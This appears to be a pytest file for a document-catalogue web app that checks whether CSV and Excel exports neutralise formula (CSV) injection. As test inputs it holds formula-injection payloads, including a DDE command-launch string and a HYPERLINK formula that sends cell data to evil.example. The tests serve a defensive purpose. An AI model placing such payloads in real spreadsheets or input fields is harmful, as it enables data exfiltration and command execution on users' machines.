"""Spreadsheet exports hold no formulas (OWASP's CSV-injection rule), on SQLite and PostgreSQL.

Hostile text enters through the ordinary doors: a failed login's user name (the audit export), document
fields typed by reviewers or read by OCR (the search export), unit names (the progress workbook).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
from fastapi.testclient import TestClient

from sohoa.app import create_app
from sohoa.db.models import Document, Unit
from sohoa.domain.cells import FORMULA_TRIGGERS, csv_bytes, neutralise
from sohoa.index import make_index
from sohoa.services.catalogue.search import SearchRequest
from sohoa.services.catalogue.search_export import export_search
from sohoa.services.identity.principal import SYSTEM
from sohoa.services.platform.context import AppContext
from sohoa.services.production import progress
from sohoa.services.production.ingest_store import document_index_doc
from tests.shared.world import build_world
from tests.web import _helpers as helpers

HOSTILE = ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", '=HYPERLINK("//x.vn","a")')


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def _assert_no_formula(content: bytes) -> list[str]:
    """Every cell of every sheet is data: no formula type, no text a spreadsheet would evaluate."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_cells(content: bytes) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    assert not any(_formula_like(c) for c in cells), cells
    return cells


def test_the_rule_neutralises_text_only() -> None:
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    for value in ("hòa giải", "'=already quoted", " =1", "", "Quyết định =1"):
        assert neutralise(value) == value
    assert neutralise(-5) == -5 and neutralise(-2.5) == -2.5 and neutralise(None) is None
    assert neutralise(date(2021, 5, 1)) == date(2021, 5, 1)
    assert _csv_cells(csv_bytes(["a"], [[v] for v in HOSTILE]))[1:] == ["'" + v for v in HOSTILE]


def test_audit_export_after_a_hostile_failed_login(any_ctx: AppContext) -> None:
    helpers.users(any_ctx)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")'
    with TestClient(create_app(any_ctx, watch_hot_folders=False), raise_server_exceptions=False) as anonymous:
        token = helpers.csrf(anonymous)
        failed = anonymous.post("/login", data={"username": hostile, "password": "sai", "csrf_token": token},
                                follow_redirects=False)
        assert failed.status_code == 401
    with TestClient(create_app(any_ctx, watch_hot_folders=False), raise_server_exceptions=False) as admin:
        helpers.login(admin, "admin")
        as_csv = admin.get("/admin/audit/export", params={"format": "csv", "action": "auth.login_failed"})
        as_xlsx = admin.get("/admin/audit/export", params={"format": "xlsx", "action": "auth.login_failed"})
    assert as_csv.status_code == 200 and as_xlsx.status_code == 200
    assert "'" + hostile in _csv_cells(as_csv.content)  # kept, readable, inert
    assert "'" + hostile in _assert_no_formula(as_xlsx.content)


def _hostile_documents(ctx: AppContext) -> None:
    world = build_world(ctx)
    index = make_index(ctx.db.engine)
    with ctx.db.session() as session:
        unit = Unit(identifier="T.X", name="=cmd|'/C calc'!A0", name_folded="cmd", unit_type="phường")
        session.add(unit)
        session.flush()
        for n, value in enumerate(HOSTILE):
            doc = Document(file_id=world.files[("own", "public")], unit_id=unit.id if n == 0 else world.units["own"],
                           state="published",
                           text="xuatbang thử", source_name=value, type_name=value, code_number=value[:11],
                           code_notation=value, organ_name=value, subject=value, access_level="public",
                           page_amount=-n, issued_date=date(2020, 1, 1 + n))
            session.add(doc)
            session.flush()
            index.upsert(session, document_index_doc(doc))


def test_search_and_progress_exports_hold_no_formulas(any_ctx: AppContext) -> None:
    _hostile_documents(any_ctx)
    content, media, _ = export_search(any_ctx, SYSTEM, SearchRequest(query="xuatbang"), "xlsx")
    assert media.endswith("spreadsheetml.sheet")
    texts = _assert_no_formula(content)
    for value in HOSTILE:
        assert texts.count("'" + value) >= 4  # type, number, notation, organ, subject: all neutralised
    book = openpyxl.load_workbook(io.BytesIO(content))
    ids = [row[0].value for row in book.active.iter_rows(min_row=3)]
    assert len(ids) == len(HOSTILE)
    assert "'=cmd|'/C calc'!A0" in _assert_no_formula(progress.export_xlsx(any_ctx))


def test_numbers_stay_numbers_in_a_workbook() -> None:
    from sohoa.domain.cells import xlsx_append

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    xlsx_append(sheet, [-5, 2.5, "-5", "=SUM(A1:A2)", None])
    out = io.BytesIO()
    book.save(out)
    row = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [(c.value, c.data_type) for c in row[:4]] == [(-5, "n"), (2.5, "n"), ("'-5", "s"), ("'=SUM(A1:A2)", "s")]


def test_every_writer_goes_through_the_rule() -> None:
    """No module writes spreadsheet rows itself: a new export must use sohoa.domain.cells."""
    src = Path(__file__).resolve().parents[2] / "src" / "sohoa"
    direct = re.compile(r"csv\.writer\(|\.writerows?\(|\b(?:sheet|ws|worksheet)\.append\(|DictWriter\(")
    offenders = [str(p.relative_to(src)) for p in src.rglob("*.py")
                 if p.name != "cells.py" and direct.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
